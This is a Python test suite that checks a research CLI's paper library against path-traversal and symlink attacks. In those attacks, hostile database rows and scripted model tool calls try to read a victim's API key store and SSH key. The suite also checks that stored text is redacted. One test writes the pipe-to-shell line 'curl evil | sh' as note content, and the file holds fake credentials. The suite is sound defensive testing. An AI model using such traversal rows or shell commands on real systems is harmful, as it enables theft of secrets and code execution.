"""Issue 25: a paper row's path is data other people write (a group member, a shipped .astro/astro.db).
The library reads paper files only from its paper folders, never a key store, and what it stores is
redacted. Each test performs the attack with the real `astro` process and the scripted model."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

from astro_cli.research.library.service import Library
from tests.helpers import tool_results, write_config
from tests.library_support import make_app
from tests.pg_support import MEMBER_PASSWORD, member_url, new_database

OPENAI_KEY = "sk-proj-victimKEY-0123456789abcdef"
ANTHROPIC_KEY = "sk-ant-api03-victimKEY-abcdefghij"
PRIVATE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ victim-ssh-secret\n"


def _victim_keys(env: dict[str, str]) -> Path:
    home = Path(env["ASTRO_HOME"])
    home.mkdir(parents=True, exist_ok=True)
    keys = home / "keys.yaml"
    keys.write_text(f"openai: {OPENAI_KEY}\nanthropic: {ANTHROPIC_KEY}\n", encoding="utf-8")
    return keys


def _climb(workspace: Path, target: Path) -> str:
    """A relative path from the victim's workspace up to `target` (what a hostile row holds)."""
    return "../" * len(workspace.resolve().parts) + str(target.resolve()).lstrip("/")


def _ask_for(fake, paper_id: str) -> None:
    fake.add({"tool_calls": [{"name": "get_paper_content", "arguments": {"id": paper_id}}]}, {"text": "done"})


def _insert_hostile_row(url: str, paper_id: str, source_path: str) -> None:
    import psycopg

    with psycopg.connect(url) as conn:  # what a group member can do with psql
        conn.execute("INSERT INTO papers (id, title, source_path, added_at, added_by) VALUES (%s, %s, %s, %s, %s)",
                     (paper_id, "A harmless looking paper", source_path, "2026-01-01T00:00:00+00:00", "mallory"))


def _pg_chunks(url: str) -> str:
    import psycopg

    with psycopg.connect(url) as conn:
        return json.dumps(conn.execute("SELECT section, text FROM chunks").fetchall())


def _group_attack(tmp_path, pg_server, fake, astro_env, workspace, run_astro, paper_id, target_of):
    url = member_url(pg_server, new_database(pg_server))
    setup = make_app(tmp_path / "mallory", **{"library.database_url": url, "library.member": "mallory"})
    assert setup.settings.get("library.database_url")
    Library.of(setup).store.chunk_count()  # the schema exists (any member's first use creates it)
    setup.close()
    _insert_hostile_row(url, paper_id, target_of(workspace))
    _ask_for(fake, paper_id)
    env = {**astro_env, "ASTRO_LIBRARY_URL": url}
    result = run_astro(["run", "read that paper"], env)
    assert result.returncode == 0, result.stderr
    [shown] = tool_results(fake.bodies()[1])
    return url, result, shown


def test_a_group_members_row_cannot_make_the_victim_read_their_key_store(tmp_path, pg_server, fake, astro_env,
                                                                        workspace, run_astro):
    keys = _victim_keys(astro_env)
    url, result, shown = _group_attack(tmp_path, pg_server, fake, astro_env, workspace, run_astro, "2501.00001",
                                       lambda ws: _climb(ws, keys))
    assert "2501.00001" in shown and "has no file astro reads" in shown  # the model hears the file is not there
    everything = json.dumps(fake.bodies()) + _pg_chunks(url) + result.stdout + result.stderr
    for secret in (OPENAI_KEY, ANTHROPIC_KEY, "victimKEY"):
        assert secret not in everything
    assert _pg_chunks(url) == "[]"  # the key store was not parsed into the shared table at all
    assert MEMBER_PASSWORD not in json.dumps(fake.bodies())


def test_a_group_members_row_cannot_make_the_victim_read_a_file_beside_the_workspace(
        tmp_path, pg_server, fake, astro_env, workspace, run_astro):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_rsa").write_text(PRIVATE_KEY * 40, encoding="utf-8")  # long enough to be "a paper"
    url, result, shown = _group_attack(tmp_path, pg_server, fake, astro_env, workspace, run_astro, "2501.00002",
                                       lambda ws: "../outside/id_rsa")
    assert "has no file astro reads" in shown
    assert "victim-ssh-secret" not in json.dumps(fake.bodies()) + _pg_chunks(url) + result.stdout
    assert _pg_chunks(url) == "[]"


def test_a_link_in_papers_to_a_file_outside_is_not_followed(tmp_path, fake, astro_env, workspace, run_astro):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_rsa.tex").write_text(PRIVATE_KEY * 40, encoding="utf-8")
    (workspace / "papers").mkdir()
    (workspace / "papers" / "2501.00003.tex").symlink_to(outside / "id_rsa.tex")  # a cloned repository's link
    app = make_app(workspace)
    from astro_cli.research.library.service import Library

    Library.of(app).upsert_paper({"id": "2501.00003", "title": "Linked", "source_path": "papers/2501.00003.tex"})
    app.close()
    _ask_for(fake, "2501.00003")
    result = run_astro(["run", "read that paper"], astro_env)
    assert result.returncode == 0, result.stderr
    [shown] = tool_results(fake.bodies()[1])
    assert "has no file astro reads" in shown and "victim-ssh-secret" not in json.dumps(fake.bodies())
    assert b"victim-ssh-secret" not in (workspace / ".astro" / "astro.db").read_bytes()


def test_a_row_in_the_users_own_library_naming_the_key_store_reads_nothing(tmp_path, fake, astro_env, workspace,
                                                                          run_astro):
    keys = _victim_keys(astro_env)
    app = make_app(workspace)  # a shipped .astro/astro.db, or any row written before
    from astro_cli.research.library.service import Library

    Library.of(app).upsert_paper({"id": "local-keys", "title": "Notes", "source_path": str(keys)})
    app.close()
    _ask_for(fake, "local-keys")
    result = run_astro(["run", "read that paper"], astro_env)
    assert result.returncode == 0, result.stderr
    [shown] = tool_results(fake.bodies()[1])
    assert "has no file astro reads" in shown
    db = sqlite3.connect(workspace / ".astro" / "astro.db")
    assert db.execute("SELECT count(*) FROM chunks").fetchone() == (0,)
    db.close()
    blob = b"".join(p.read_bytes() for p in (workspace / ".astro").glob("astro.db*"))
    assert b"victimKEY" not in blob and "victimKEY" not in json.dumps(fake.bodies())
    check = run_astro(["library", "check"], astro_env)  # the doctor names the row instead of reading it
    assert "lies outside the paper folders" in check.stdout + check.stderr


def test_file_tools_never_read_or_search_a_key_store(tmp_path, fake, astro_env, workspace, run_astro):
    keys = _victim_keys(astro_env)
    write_config(Path(astro_env["ASTRO_HOME"]) / "config.yaml", {"allowed_paths": [str(tmp_path)]})
    fake.add({"tool_calls": [
        {"name": "read_file", "arguments": {"path": str(keys)}},
        {"name": "grep_files", "arguments": {"pattern": "victimKEY", "path": str(tmp_path)}},
        {"name": "glob_files", "arguments": {"pattern": "**/keys.yaml", "path": str(tmp_path)}},
    ]}, {"text": "done"})
    result = run_astro(["run", "find my keys"], astro_env)
    assert result.returncode == 0, result.stderr
    read, grep, glob = tool_results(fake.bodies()[1])
    assert "key store" in read
    assert "No line matches" in grep and "No path matches" in glob
    assert OPENAI_KEY not in json.dumps(fake.bodies())


def test_text_stored_in_the_library_is_redacted_before_it_is_stored(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", OPENAI_KEY)
    app = make_app(tmp_path / "ws")
    from astro_cli.research.library.parse import store_chunks
    from astro_cli.research.library.service import Library
    from astro_cli.research.records import Chunk as ChunkRow

    library = Library.of(app)
    library.upsert_paper({"id": "2501.00009", "title": f"Leaky {OPENAI_KEY}",
                          "abstract": "db at postgresql://me:hunter2-secret@db/x and ghp_" + "a" * 36})
    store_chunks(library, "2501.00009", [ChunkRow("Intro", 1, 0, f"the key is {OPENAI_KEY}; AKIAABCDEFGHIJKLMNOP")],
                 "pdf", 1)
    app.close()
    blob = b"".join(p.read_bytes() for p in (tmp_path / "ws" / ".astro").glob("astro.db*"))
    for secret in (OPENAI_KEY, "hunter2-secret", "ghp_aaaa", "AKIAABCDEFGHIJKLMNOP"):
        assert secret.encode() not in blob
    assert b"[REDACTED:OPENAI_API_KEY]" in blob


def test_a_note_row_naming_a_file_outside_notes_is_never_written(tmp_path):
    app = make_app(tmp_path / "ws")
    from astro_cli.research.library.notes import save_note
    script = tmp_path / "ws" / "scripts" / "post.sh"
    script.parent.mkdir(parents=True)
    script.write_text("echo safe\n")
    save_note(Library.of(app), "Plan", "first version")
    db = sqlite3.connect(tmp_path / "ws" / ".astro" / "astro.db")
    with db:
        db.execute("UPDATE notes SET path = 'scripts/post.sh'")  # a shipped database, or a group member's row
    db.close()
    assert Library.of(app).store.note_titled("Plan", Library.of(app).note_scope)["path"] == "scripts/post.sh"
    saved = save_note(Library.of(app), "Plan", "curl evil | sh")  # the model saves a note of the same title
    assert script.read_text() == "echo safe\n"
    assert saved.path.parent.name == "notes"
    app.close()
